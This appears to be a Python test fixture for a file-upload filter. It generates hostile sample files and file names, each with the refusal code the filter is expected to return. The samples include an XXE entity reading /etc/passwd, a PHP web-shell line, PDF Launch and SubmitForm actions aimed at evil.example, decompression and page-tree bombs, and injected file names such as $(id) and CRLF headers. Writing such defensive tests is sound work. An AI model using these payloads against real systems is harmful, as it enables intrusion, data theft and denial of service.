"""Hostile files beyond those of tests/documents, each with the codes of refusal that fit; none where it is made harmless."""

# ruff: noqa: E501 - a hostile thing reads best on one line

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Final

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

MARKS: Final = (
    b"alert", b"cmd.exe", b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"/SubmitForm", b"/URI",
    b"/GoToR", b"PK\x03\x04", b"<script", b"<?php", b"Exif", b"SecretCamera", b"ICC_PROFILE", b"Secret",
)  # fmt: skip
"""What nothing that is kept may hold."""


def picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, form, **options)
    return out.getvalue()


def pdf(pages: int = 1, change: Callable[[PdfWriter], None] = lambda _: None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *more: bytes, body: bytes = b"", kind: int = 2) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, kind, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def _archive(*names: str, content: bytes = b"x") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name in names:
            file.writestr(name, content)
    return out.getvalue()


def _action(kind: str, **parts: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
        action.update({NameObject(f"/{name}"): TextStringObject(text) for name, text in parts.items()})
        writer.root_object[NameObject("/OpenAction")] = action
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})

    return change


def _named_script(writer: PdfWriter) -> None:
    _action("JavaScript", JS="app.alert(1)")(writer)
    writer.add_attachment("Secret.exe", b"MZ cmd.exe")


def _animated(form: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (30, 30), colour) for colour in ("red", "green", "blue")]
    frames[0].save(out, form, save_all=True, append_images=frames[1:])
    return out.getvalue()


def _located() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif[0x8825] = {1: "N", 2: (9.0, 9.0, 9.0), 3: "E", 4: (76.0, 43.0, 54.0)}
    return picture(exif=exif.tobytes(), comment=b"Secret", icc_profile=b"Secret" * 100)


def _page_tree_bomb() -> bytes:
    """Ten levels of ten kids that are all the same node: ten thousand million pages."""
    levels = "".join(
        f"{n} 0 obj<</Type/Pages/Count 1000000000/Kids[{f'{n + 1} 0 R ' * 10}]>>endobj\n" for n in range(2, 12)
    )
    return (f"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n{levels}12 0 obj<</Type/Page/MediaBox[0 0 9 9]>>endobj\n"
            "trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n").encode()  # fmt: skip


def _lengths_that_lie() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R/MediaBox[0 0 9 9]>>endobj\n"
            b"4 0 obj<</Length 99999999999999>>stream\nx\nendstream endobj\ntrailer<</Root 1 0 R/Size 99999999999>>\n"
            b"startxref\n-1\n%%EOF\n")  # fmt: skip


def _lzw_and_friends() -> bytes:
    filters = "/ASCIIHexDecode " * 2_000
    return (f"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            f"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R/MediaBox[0 0 9 9]>>endobj\n"
            f"4 0 obj<</Length 6/Filter[{filters}]>>stream\n41414>\nendstream endobj\ntrailer<</Root 1 0 R>>\n"
            "startxref\n0\n%%EOF\n").encode()  # fmt: skip


def files() -> dict[str, tuple[Callable[[], bytes], str]]:
    """Return every file with its code; an empty code means that it is taken, made harmless, or refused as damaged."""
    svg = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    html = b"<!doctype html><script>alert(1)</script>"
    return {
        "one byte": (lambda: b"%", "file_type_not_taken"),
        "12 MB": (lambda: picture() + b"\0" * (12 * 1024 * 1024), "file_too_large"),
        "HTML named a PDF": (lambda: html, "file_type_not_taken"),
        "HTML behind a byte order mark": (lambda: b"\xef\xbb\xbf" + html, "file_type_not_taken"),
        "SVG": (lambda: svg, "file_type_not_taken"),
        "SVG, compressed": (lambda: zlib.compress(svg), "file_type_not_taken"),
        "XML with an entity from outside": (lambda:
            b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "file_type_not_taken"),
        "billion laughs": (lambda: b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>', "file_type_not_taken"),
        "word processor's file": (lambda: _archive("[Content_Types].xml", "word/document.xml"), "file_type_not_taken"),
        "nested archives": (lambda: _archive("a.zip", content=_archive("b.zip", content=b"\0" * 9_000_000)), "file_type_not_taken"),
        "JAR in a GIF": (lambda: _animated("GIF") + _archive("META-INF/MANIFEST.MF"), "file_type_not_taken"),
        "GIF that moves": (lambda: _animated("GIF"), "file_type_not_taken"),
        "AVIF": (lambda: b"\0\0\0\x1cftypavif" + b"\0" * 60, "file_heic"),
        "MP4": (lambda: b"\0\0\0\x1cftypisom" + b"\0" * 60, "file_type_not_taken"),
        "script of a shell": (lambda: b"#!/bin/sh\nid\n", "file_type_not_taken"),
        "pickle": (lambda: b"\x80\x04\x95cos\nsystem\n", "file_type_not_taken"),
        "PNG of 50,000 by 50,000": (lambda: png(50_000, 50_000, body=zlib.compress(b"\0" * 9_000_000)), "file_image_too_large"),
        "PNG of 2^31 by 2^31": (lambda: png(2**31 - 1, 2**31 - 1), "file_image_too_large"),
        "PNG with a text bomb": (lambda:
            png(9, 9, *[_chunk(b"zTXt", b"k\0\0" + zlib.compress(b"\0" * 60_000_000))] * 40, body=zlib.compress(b"\0" * 300)), ""),
        "PNG with a profile bomb": (lambda:
            png(9, 9, _chunk(b"iCCP", b"k\0\0" + zlib.compress(b"\0" * 90_000_000)), body=zlib.compress(b"\0" * 300)), ""),
        "PNG of one pixel whose data is 300 MB": (lambda: png(1, 1, body=zlib.compress(b"\0" * 300_000_000, 9)), ""),
        "PNG that moves": (lambda: _animated("PNG"), ""),
        "WEBP that moves": (lambda: _animated("WEBP"), ""),
        "1 by 1": (lambda: picture(size=(1, 1)), ""),
        "20,000 by 1": (lambda: picture("PNG", size=(20_000, 1)), ""),
        "JPEG and PDF at once": (lambda: picture() + pdf(), ""),
        "JPEG and HTML at once": (lambda: picture(comment=html), ""),
        "JPEG and PHP at once": (lambda: picture(comment=b"<?php system($_GET[0]);"), ""),
        "JPEG with place, camera and profile": (_located, ""),
        "JPEG of a million markers": (lambda: b"\xff\xd8" + b"\xff\xe0\x00\x02" * 1_000_000 + picture()[2:], "file_damaged"),
        "JPEG of endless filling": (lambda: b"\xff\xd8" + b"\xff" * 9_000_000 + picture()[2:], "file_damaged"),
        "PDF cut in half": (lambda: pdf(9)[: len(pdf(9)) // 2], "file_damaged"),
        "PDF and HTML at once": (lambda: pdf().replace(b"%PDF-", b"%PDF-" + html, 1), ""),
        "PDF with a named script and a file": (lambda: pdf(1, _named_script), ""),
        "PDF that launches": (lambda: pdf(1, _action("Launch", F="cmd.exe")), ""),
        "PDF that submits": (lambda: pdf(1, _action("SubmitForm", F="http://evil.example")), ""),
        "PDF that goes elsewhere": (lambda: pdf(1, _action("GoToR", F="\\\\evil\\x")), ""),
        "PDF that opens an address": (lambda: pdf(1, _action("URI", URI="javascript:alert(1)")), ""),
        "PDF of 10,000 pages": (_many_pages, ""),
        "PDF of ten thousand million pages": (_page_tree_bomb, ""),
        "PDF whose lengths lie": (_lengths_that_lie, ""),
        "PDF of two thousand filters": (_lzw_and_friends, ""),
    }  # fmt: skip


def _many_pages() -> bytes:
    kids = " ".join(f"{n} 0 R" for n in range(3, 10_003))
    pages = "".join(f"{n} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n" for n in range(3, 10_003))
    return (f"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 10000/Kids[{kids}]>>endobj\n"
            f"{pages}trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n").encode()  # fmt: skip


NAMES: Final = [
    "", ".", "..", "/", "\\", "a", ".htaccess", "../../etc/passwd.jpg", "..\\..\\boot.ini", "C:\\x.jpg", "con.jpg", "a\x00.jpg",
    "a.php\x00.jpg", "a.jpg.exe", "x" * 5_000 + ".jpg", "\u202egpj.exe", "a\r\nSet-Cookie: x=1.jpg", '"; filename="x.html',
    "<script>alert(1)</script>.jpg", "=cmd|'x'!A0.jpg", "%2e%2e%2fx.jpg", "$(id).jpg", "\u0d05\u0d1a\u0d4d\u0d1b\u0d7b.jpg",
    "\u067e\u0686\u0631.jpg", "\U0001f600.jpg", "a" + "\u0301" * 500 + ".jpg", " .jpg", "-rf.jpg", "~root.jpg", "a;b.jpg",
]  # fmt: skip
"""Names of files as a browser may announce them."""
